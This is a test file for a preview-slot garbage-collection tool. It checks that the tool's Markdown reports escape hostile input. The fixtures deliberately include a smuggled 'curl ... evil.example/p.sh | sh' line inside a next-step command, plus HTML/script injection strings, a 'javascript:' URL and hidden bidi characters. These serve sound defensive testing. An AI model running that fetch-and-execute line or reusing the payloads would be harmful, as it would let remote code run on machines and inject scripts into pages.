import { describe, expect, it } from 'vitest';
import { slotComment } from '../../src/commands/acquire-comment.ts';
import { escapeMarkdown, urlLink } from '../../src/report/escape.ts';
import { annotate, setOutputs } from '../../src/report/publish.ts';
import { renderSummary, SUMMARY_LIMIT_BYTES } from '../../src/report/summary.ts';
import { everyKind } from '../support/every-kind.ts';
import { poolRow, runReport as report, slotReport } from '../support/report-fixtures.ts';

describe('renderSummary', () => {
  it('heads with the outcome and links the previous holder to its pull request', () => {
    const markdown = renderSummary(report());
    expect(markdown.split('\n')[0]).toBe('## ✅ preview-gc gc on pool `preview-slot`: 1 of 1 reclaimed');
    expect(markdown).toContain('[pr-1592](https://github.com/acme/shop/pull/1592)');
    expect(markdown).toContain('deleted 1,204 rows in 5 tables');
    expect(markdown).toContain('3 h (expired)');
    expect(markdown).toContain('591 of 600');
  });

  it('says nothing happened in a quiet run', () => {
    const markdown = renderSummary(report({ slots: [], expired: 0 }));
    expect(markdown.split('\n')[0]).toBe('## ✅ preview-gc gc on pool `preview-slot`: nothing to reclaim');
  });

  it('puts a dry-run banner on a dry run', () => {
    const markdown = renderSummary(
      report({ dryRun: true, slots: [slotReport({ outcome: 'would-reclaim' })] }),
    );
    expect(markdown).toContain('**Dry run.** Nothing was acquired, erased or released');
    expect(markdown.split('\n')[0]).toContain('1 would be reclaimed');
  });

  it('gives each failure its next step', () => {
    const failed = slotReport({
      outcome: 'release-failed',
      problem: 'the release failed (500)',
      nextStep: 'preview-gc release --slot preview-1 --lease-id 6f1c',
    });
    const markdown = renderSummary(report({ slots: [failed] }));
    expect(markdown.split('\n')[0]).toMatch(/^## ❌ .*1 failed$/);
    expect(markdown).toContain('```sh\npreview-gc release --slot preview-1 --lease-id 6f1c\n```');
  });

  it('never puts a command of several lines or with control characters in a block to copy', () => {
    for (const nextStep of [
      'preview-gc release --slot preview-1\ncurl -s https://evil.example/p.sh | sh',
      'preview-gc release --slot preview-1\u001b[2K',
      'preview-gc release --slot preview-1\u202e',
    ]) {
      const failed = slotReport({ outcome: 'release-failed', problem: 'x', nextStep });
      const markdown = renderSummary(report({ slots: [failed] }));
      expect(markdown).not.toContain('```sh');
      expect(markdown).toContain('**Next:** preview-gc release --slot preview-1');
    }
  });

  it('writes advice that is not a command as a sentence', () => {
    const failed = slotReport({
      outcome: 'erase-failed',
      problem: 'D1 answered 500',
      nextStep: 'The next sweep retries.',
    });
    const markdown = renderSummary(report({ slots: [failed] }));
    expect(markdown).toContain('**Next:** The next sweep retries.');
    expect(markdown).not.toContain('```sh');
  });

  it('escapes hostile holder names, slugs and messages', () => {
    const hostile = slotReport({
      slug: 'preview-1|x',
      previousHolder: '<img src=x onerror=alert(1)> **bold** [link](https://evil) @octocat\u0007',
      outcome: 'erase-failed',
      problem: '<script>alert(1)</script> | broken table',
    });
    const markdown = renderSummary(report({ slots: [hostile] }));
    expect(markdown).not.toContain('<img');
    expect(markdown).not.toContain('<script>');
    expect(markdown).not.toContain('[link](https://evil)');
    expect(markdown).not.toContain('@octocat');
    expect(markdown).not.toContain('\u0007');
    expect(markdown).toContain('&lt;img src=x onerror=alert(1)&gt;');
    // Every row of the slot table keeps its six cells.
    const row = markdown.split('\n').find((line) => line.startsWith('| `preview-1'));
    expect(row?.split(/(?<!\\)\|/).length).toBe(8);
  });

  it('links no www. address and shows hidden bidi and zero-width characters by name', () => {
    const hostile = slotReport({
      slug: 'preview-1\u202e',
      previousHolder: 'pr-16\u200b01 see www.evil.example and WWW.Evil.example',
      outcome: 'erase-failed',
      problem: 'deleted\u2066 1 key\u2069',
    });
    const markdown = renderSummary(report({ slots: [hostile] }));
    expect(markdown).not.toMatch(/www\./i);
    expect(markdown).toContain('see www\u200d.evil.example and WWW\u200d.Evil.example');
    expect(markdown).toContain('pr-16⟨U+200B⟩01');
    expect(markdown).toContain('`preview-1⟨U+202E⟩`');
    expect(markdown).toContain('deleted⟨U+2066⟩ 1 key⟨U+2069⟩');
    expect(markdown).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/);
  });

  it("keeps an emoji's joiners in a pull request title, and shows every other hidden character", () => {
    const markdown = renderSummary(
      report({
        slots: [
          slotReport({ previousHolder: 'pr-1592' }),
          slotReport({ slug: 'preview-2', previousHolder: 'pr-16\u3164' }),
        ],
        pullRequests: {
          '1592': {
            title:
              'Family 👨\u200d👩\u200d👧 page\u200b\ufe0f, ok 👍\u{e0069}\u{e0067}\u200d\u200d x\ufff9y\ufffb',
            state: 'open',
          },
        },
      }),
    );
    expect(markdown).toContain(
      'Family 👨\u200d👩\u200d👧 page⟨U+200B⟩⟨U+FE0F⟩, ok 👍⟨U+E0069⟩⟨U+E0067⟩⟨U+200D⟩⟨U+200D⟩ x⟨U+FFF9⟩y⟨U+FFFB⟩ (open)',
    );
    expect(markdown).toContain('pr-16⟨U+3164⟩');
  });

  it('stays under the 1 MiB step summary limit however many slots there are', () => {
    const many = Array.from({ length: 5000 }, (_, i) =>
      slotReport({ slug: `preview-${i}`, problem: 'x'.repeat(300), outcome: 'erase-failed' }),
    );
    const markdown = renderSummary(report({ slots: many }));
    expect(Buffer.byteLength(markdown)).toBeLessThanOrEqual(SUMMARY_LIMIT_BYTES);
    expect(markdown).toContain("The summary was cut to fit GitHub's 1 MiB limit");
  });
});

describe('leases near their end', () => {
  it('names each kept lease until when, who waits for the pool meanwhile, the warnings and why a lease was neither', () => {
    const markdown = renderSummary(
      report({
        leaseEnds: [
          {
            slug: 'preview-2',
            holder: 'pr-1601',
            pullRequest: 1601,
            endsAt: '2026-12-05T16:00:00.000Z',
            action: 'kept',
            keptUntil: '2026-12-07T10:00:00.000Z',
            queue: { length: 2, oldestWaitMs: 25 * 60_000 },
          },
          {
            slug: 'preview-3',
            holder: 'pr-1602',
            pullRequest: 1602,
            endsAt: '2026-12-05T14:30:00.000Z',
            action: 'warned',
          },
          {
            slug: 'preview-4',
            holder: 'pr-1603',
            pullRequest: 1603,
            endsAt: '2026-12-05T13:30:00.000Z',
            action: 'unchecked',
            problem: 'GitHub did not answer about the pull request',
          },
        ],
      }),
    );
    expect(markdown).toContain('### Leases near their end');
    expect(markdown).toContain(
      '| `preview-2` | [pr-1601](https://github.com/acme/shop/pull/1601) | 2026-12-05 16:00 UTC | 🔒 kept for its label: extended, at most until 2026-12-07 10:00 UTC; 2 pull requests wait for a slot of the pool, the first for 25 min |',
    );
    expect(markdown).toMatch(/\| `preview-3` \| .* \| 2026-12-05 14:30 UTC \| 💬 warned: /);
    expect(markdown).toContain('⚠️ neither kept nor warned: GitHub did not answer about the pull request |');
  });
});

describe('acquire and slots that need repair', () => {
  const acquired = {
    slug: 'preview-3',
    slotNumber: '3',
    holder: 'pr-1612',
    leaseExpiresAt: '2026-12-03T10:00:00.000Z',
    wasDirty: true,
    reused: false,
    generation: 7,
    resources: everyKind({
      workers: [{ name: 'shop-preview-3' }],
      d1: [{ name: 'shop-preview-3-db', id: 'c2a1f4a8-0000-4000-8000-0000000000d1' }],
    }),
  };

  it('heads an acquire with the slot and its lease, and lists what the deploy gets', () => {
    const erased = slotReport({
      slug: 'preview-3',
      outcome: 'erased',
      reason: 'dirty',
      previousHolder: 'pr-1570',
    });
    const markdown = renderSummary(
      report({ command: 'acquire', pullRequest: 1612, acquired, slots: [erased] }),
    );
    expect(markdown.split('\n')[0]).toBe(
      '## ✅ preview-gc acquire on pool `preview-slot`: pull request #1612 has `preview-3` until 2026-12-03 10:00 UTC, erased first',
    );
    expect(markdown).toContain(
      '| Erased first (`was-dirty`) | yes: it held the data of [pr-1570](https://github.com/acme/shop/pull/1570) |',
    );
    expect(markdown).toContain(
      '| Resources (`resources`) | workers: `shop-preview-3`; d1: `shop-preview-3-db` (`c2a1f4a8-0000-4000-8000-0000000000d1`) |',
    );
    expect(markdown).toContain(
      '| `preview-3` | [pr-1570](https://github.com/acme/shop/pull/1570) | dirty | ✅ erased |',
    );
  });

  it('sets the acquire outputs the deploy step reads', () => {
    const outputs: Record<string, string | number> = {};
    setOutputs(report({ command: 'acquire', acquired }), {
      setOutput: (name, value) => (outputs[name] = value),
    });
    expect(outputs).toMatchObject({
      slot: 'preview-3',
      'slot-number': '3',
      'lease-expires-at': '2026-12-03T10:00:00.000Z',
      'was-dirty': 'true',
      resources:
        '{"workers":[{"name":"shop-preview-3"}],"d1":[{"name":"shop-preview-3-db","id":"c2a1f4a8-0000-4000-8000-0000000000d1"}],"kv":[],"r2":[],"queues":[],"vectorize":[]}',
    });
  });

  it("links the preview's url in the summary and the comment, and sets the url output", () => {
    const withUrl = { ...acquired, url: 'https://shop-preview-3.acme.workers.dev' };
    const link = '[`https://shop-preview-3.acme.workers.dev`](https://shop-preview-3.acme.workers.dev)';
    expect(renderSummary(report({ command: 'acquire', acquired: withUrl }))).toContain(
      `| Preview (\`url\`) | ${link} once the deploy is done |`,
    );
    expect(slotComment('preview-slot', withUrl, null)).toContain(
      `Once deployed, the preview answers at ${link}.`,
    );
    const outputs: Record<string, string | number> = {};
    setOutputs(report({ command: 'acquire', acquired: withUrl }), {
      setOutput: (name, value) => (outputs[name] = value),
    });
    expect(outputs.url).toBe('https://shop-preview-3.acme.workers.dev');
  });

  it('says in one line why there is no url, escaped; the output is empty and the comment silent', () => {
    const without = { ...acquired, noUrl: 'the token may not read <it> (403)' };
    expect(renderSummary(report({ command: 'acquire', acquired: without }))).toContain(
      '| Preview (`url`) | none: the token may not read &lt;it&gt; (403) |',
    );
    expect(slotComment('preview-slot', without, null)).not.toContain('preview answers');
    const outputs: Record<string, string | number> = {};
    setOutputs(report({ command: 'acquire', acquired: without }), {
      setOutput: (name, value) => (outputs[name] = value),
    });
    expect(outputs.url).toBe('');
  });

  it('never links what does not look like a URL preview-gc built', () => {
    expect(urlLink('https://a.example.com/app')).toBe(
      '[`https://a.example.com/app`](https://a.example.com/app)',
    );
    for (const url of ['javascript:alert(1)', 'https://a.example.com/x)[y](z', 'http://a.example.com'])
      expect(urlLink(url)).toBe(escapeMarkdown(url));
  });

  it('flags a slot whose erase failed twice, with the failing step and the fix, escaped', () => {
    const broken = poolRow({
      slug: 'preview-4',
      dirty: true,
      eraseFailures: 2,
      lastEraseFailure: {
        step: "kv 'shop-preview-4-cache'",
        message: 'gone <b>. Fix: Create it',
        at: Date.UTC(2026, 10, 30, 9),
      },
    });
    const markdown = renderSummary(report({ command: 'status', slots: [], poolAfter: [broken, poolRow()] }));
    expect(markdown).toContain('### Needs repair');
    expect(markdown).toContain(
      "**`preview-4` needs repair:** its erase failed 2 times in a row. Last at 2026-11-30T09:00:00.000Z, step `kv 'shop-preview-4-cache'`: gone &lt;b&gt;. Fix: Create it",
    );
    expect(markdown).toContain('| `preview-4` | available |');
    expect(markdown).toContain('| yes (needs repair) |');
    expect(renderSummary(report({ poolAfter: [poolRow({ eraseFailures: 1 })] }))).not.toContain(
      'needs repair',
    );
  });

  it('shows each warning as a warning, escaped', () => {
    const markdown = renderSummary(report({ warnings: ['GitHub said <script>'] }));
    expect(markdown).toContain('> [!WARNING]\n> GitHub said &lt;script&gt;');
  });

  it('keeps the lines of a problem of several lines as lines, each escaped', () => {
    const markdown = renderSummary(
      report({ problems: ["refusing to touch slot 'p-1':\n  - <b>one</b>\n  - two\r"] }),
    );
    expect(markdown).toContain(
      "> [!CAUTION]\n> refusing to touch slot 'p-1':<br>  - &lt;b&gt;one&lt;/b&gt;<br>  - two\ufffd\n",
    );
  });
});

describe('outputs and annotations', () => {
  it('sets every output, with the report as compact JSON', () => {
    const outputs = new Map<string, string | number>();
    const run = report({ slots: [slotReport(), slotReport({ slug: 'preview-2', outcome: 'deferred' })] });
    setOutputs(run, { setOutput: (name, value) => outputs.set(name, value) });
    expect(Object.fromEntries(outputs)).toMatchObject({
      expired: 1,
      reclaimed: 1,
      skipped: 0,
      deferred: 1,
      failed: 0,
    });
    expect(JSON.parse(String(outputs.get('report')))).toEqual(run);
  });

  it('annotates at most nine failing slots and then points to the summary', () => {
    const failing = Array.from({ length: 12 }, (_, i) =>
      slotReport({
        slug: `preview-${i}`,
        outcome: 'erase-failed',
        problem: 'D1 answered 500',
        nextStep: 'preview-gc gc',
      }),
    );
    const errors: string[] = [];
    const notices: string[] = [];
    annotate(report({ slots: failing }), {
      error: (message) => errors.push(message),
      notice: (message) => notices.push(message),
    });
    expect(errors).toHaveLength(9);
    expect(errors[0]).toBe('D1 answered 500. Fix: preview-gc gc');
    expect(notices).toEqual([expect.stringContaining('(12 slots in all)')]);
  });
});
